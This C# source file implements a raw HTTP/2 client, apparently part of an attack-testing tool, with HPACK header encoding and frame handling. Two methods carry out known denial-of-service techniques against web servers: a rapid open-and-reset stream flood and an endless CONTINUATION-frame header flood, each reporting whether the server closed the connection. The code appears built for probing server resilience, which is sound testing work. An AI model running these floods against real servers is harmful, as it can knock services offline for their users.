// SPDX-License-Identifier: Apache-2.0
using System.Buffers.Binary;
using System.Text;

namespace Cagent.Attack.Client;

/// <summary>
/// HTTP/2 in exact frames on one connection, one request after the other, each with its own <c>:authority</c>. Heads of responses are compressed and
/// not read: the typed body tells a denial. Not thread safe.
/// </summary>
internal sealed class Http2Stream(WireConnection connection)
{
    private const int HeadLength = 9;
    private const int MaxBody = 1024 * 1024;
    private const byte Data = 0;
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte GoAway = 7;
    private const byte Continuation = 9;
    private const byte EndStream = 1;
    private const byte EndHeaders = 4;
    private int _stream = -1;

    /// <summary>Sends the preface and empty settings.</summary>
    public async Task OpenAsync(CancellationToken cancellationToken)
    {
        await connection.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", cancellationToken).ConfigureAwait(false);
        await connection.SendAsync(Frame(Settings, 0, 0, []), cancellationToken).ConfigureAwait(false);
    }

    /// <summary>Sends a request without a body and reads its answer.</summary>
    public async Task<Answer> AskAsync(string method, string authority, string path, CancellationToken cancellationToken)
    {
        _stream += 2;
        try
        {
            await connection.SendAsync(Frame(Headers, EndStream | EndHeaders, _stream, Head(method, authority, path)), cancellationToken).ConfigureAwait(false);
            return await ReadAsync(cancellationToken).ConfigureAwait(false);
        }
        catch (IOException)
        {
            return Answer.Of(AnswerKind.Closed, "closed");
        }
        catch (OperationCanceledException) when (!cancellationToken.IsCancellationRequested)
        {
            return Answer.Of(AnswerKind.Silence, "no answer within the limit");
        }
    }

    /// <summary>Opens streams and resets each at once, then says whether the connection was ended for it.</summary>
    public async Task<Answer> ResetAtOnceAsync(int streams, string authority, string path, CancellationToken cancellationToken)
    {
        List<byte> frames = [];
        for (int i = 0; i < streams; i++)
        {
            _stream += 2;
            frames.AddRange(Frame(Headers, EndStream | EndHeaders, _stream, Head("GET", authority, path)));
            frames.AddRange(Frame(Reset, 0, _stream, [0, 0, 0, 8]));
        }

        return await FloodAsync(frames.ToArray(), cancellationToken).ConfigureAwait(false);
    }

    /// <summary>A head that never ends: one HEADERS frame and then CONTINUATION frames of 16 KiB.</summary>
    public async Task<Answer> ContinueForeverAsync(int frames, string authority, string path, CancellationToken cancellationToken)
    {
        const int FieldLength = 120;
        const int FieldsInFrame = 130;
        _stream += 2;
        byte[] filler = [.. Enumerable.Range(0, FieldsInFrame).SelectMany(i => Field($"x-fill-{i}", new string('a', FieldLength)))];
        List<byte> all = [.. Frame(Headers, EndStream, _stream, Head("GET", authority, path))];
        for (int i = 0; i < frames; i++)
        {
            all.AddRange(Frame(Continuation, 0, _stream, filler));
        }

        return await FloodAsync(all.ToArray(), cancellationToken).ConfigureAwait(false);
    }

    private async Task<Answer> FloodAsync(byte[] frames, CancellationToken cancellationToken)
    {
        try
        {
            await connection.SendAsync(frames, cancellationToken).ConfigureAwait(false);
            while (true)
            {
                (byte type, _, int stream, _) = await ReadFrameAsync(cancellationToken).ConfigureAwait(false);
                if (type == GoAway || (type == Reset && stream == _stream))
                {
                    return Answer.Of(AnswerKind.Closed, type == GoAway ? "GOAWAY" : "the stream was reset");
                }
            }
        }
        catch (IOException)
        {
            return Answer.Of(AnswerKind.Closed, "closed");
        }
        catch (OperationCanceledException) when (!cancellationToken.IsCancellationRequested)
        {
            return Answer.Of(AnswerKind.Silence, "the connection stays open");
        }
    }

    private async Task<Answer> ReadAsync(CancellationToken cancellationToken)
    {
        List<byte> body = [];
        while (true)
        {
            (byte type, byte flags, int stream, ReadOnlyMemory<byte> payload) = await ReadFrameAsync(cancellationToken).ConfigureAwait(false);
            if (type == GoAway || (stream == _stream && type == Reset))
            {
                return Answer.Of(AnswerKind.Closed, type == GoAway ? "GOAWAY" : "the stream was reset");
            }

            if (stream == _stream && type == Data && body.Count + payload.Length <= MaxBody)
            {
                body.AddRange(payload.Span);
            }

            if (stream == _stream && type is Data or Headers && (flags & EndStream) != 0)
            {
                return Answer.OfHttp2(body.ToArray());
            }
        }
    }

    private async Task<(byte Type, byte Flags, int Stream, ReadOnlyMemory<byte> Payload)> ReadFrameAsync(CancellationToken cancellationToken)
    {
        ReadOnlyMemory<byte> head = await connection.TakeAsync(HeadLength, cancellationToken).ConfigureAwait(false);
        int length = (head.Span[0] << 16) | (head.Span[1] << 8) | head.Span[2];
        if (length > MaxBody)
        {
            throw new IOException("a frame of more than 1 MiB");
        }

        int stream = BinaryPrimitives.ReadInt32BigEndian(head.Span[5..]) & int.MaxValue;
        return (head.Span[3], head.Span[4], stream, await connection.TakeAsync(length, cancellationToken).ConfigureAwait(false));
    }

    private static byte[] Head(string method, string authority, string path) =>
        [.. Field(":method", method), .. Field(":scheme", "https"), .. Field(":authority", authority), .. Field(":path", path)];

    private static byte[] Frame(byte type, int flags, int stream, byte[] payload)
    {
        byte[] frame = [(byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, (byte)flags, 0, 0, 0, 0, .. payload];
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        return frame;
    }

    // A literal without indexing and without Huffman, with a new name (RFC 7541, section 6.2.2).
    private static byte[] Field(string name, string value) => [0, .. Literal(name), .. Literal(value)];

    private static byte[] Literal(string text)
    {
        const int Prefix = 0x7f;
        byte[] bytes = Encoding.Latin1.GetBytes(text);
        if (bytes.Length < Prefix)
        {
            return [(byte)bytes.Length, .. bytes];
        }

        List<byte> literal = [Prefix];
        int rest = bytes.Length - Prefix;
        for (; rest >= 0x80; rest >>= 7)
        {
            literal.Add((byte)(0x80 | (rest & 0x7f)));
        }

        return [.. literal, (byte)rest, .. bytes];
    }
}
